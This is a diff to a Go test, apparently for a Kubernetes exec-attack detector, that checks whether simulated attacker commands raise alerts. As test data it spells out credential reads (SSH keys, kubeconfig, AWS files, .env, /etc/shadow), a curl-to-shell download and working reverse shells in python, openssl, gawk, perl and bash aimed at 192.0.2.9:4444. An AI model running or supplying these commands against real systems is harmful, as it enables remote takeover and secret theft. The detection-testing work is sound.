@@ -28,6 +28,8 @@ func (d *driver) attackCommands() {
 	s.fires("ssh-key", d.mallory).exec(spdyPost, victim, "head", "/home/app/.ssh/id_ed25519")
 	s.fires("kubeconfig", d.mallory).exec(websocket, victim, "cat", "/etc/kubernetes/admin.conf")
 	s.fires("cloud", d.mallory).exec(websocket, victim, "tar", "cf", "-", "/root/.aws/")
+	s.fires("file-of-variables", d.mallory).exec(websocket, victim, "cat", ".env")
+	s.quiet("word-that-begins-like-a-file", d.mallory).exec(websocket, victim, "node", "/srv/server.environment.js")
 	near(s, "cat /etc/shadow")
 	s.quiet("address-that-looks-alike", d.mallory).exec(websocket, victim, "curl", "-s", "https://registry.azurecr.io/v2/")
 	s.quiet("environment-file", d.mallory).exec(websocket, victim, "cat", "/etc/environment")
@@ -48,6 +50,9 @@ func (d *driver) attackCommands() {
 	s.fires("python", d.mallory).exec(websocket, victim, "python3", "-c", "import socket,os;s=socket.socket();s.connect(('192.0.2.9',4444));os.dup2(s.fileno(),0)")
 	s.fires("downloaded", d.mallory).exec(websocket, victim, "sh", "-c", "curl -s http://192.0.2.9/x|sh")
 	s.fires("base64", d.mallory).exec(websocket, victim, "sh", "-c", "echo aWQK | base64 -d | bash")
+	s.fires("openssl", d.mallory).exec(websocket, victim, "sh", "-c", "mknod p p; sh -i <p 2>&1 | openssl s_client -quiet -connect 192.0.2.9:4444 >p")
+	s.fires("gawk", d.mallory).exec(websocket, victim, "gawk", `BEGIN{s="/inet/tcp/0/192.0.2.9/4444";while(1){s|&getline c;while((c|getline o)>0)print o|&s;close(c)}}`)
+	s.fires("perl", d.mallory).exec(spdyPost, victim, "perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.9")));open(STDIN,">&S");exec("/bin/sh");`)
 	near(s, "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1")
 	s.quiet("netcat-listening", d.mallory).exec(websocket, victim, "nc", "-z", "localhost", "8080")
 
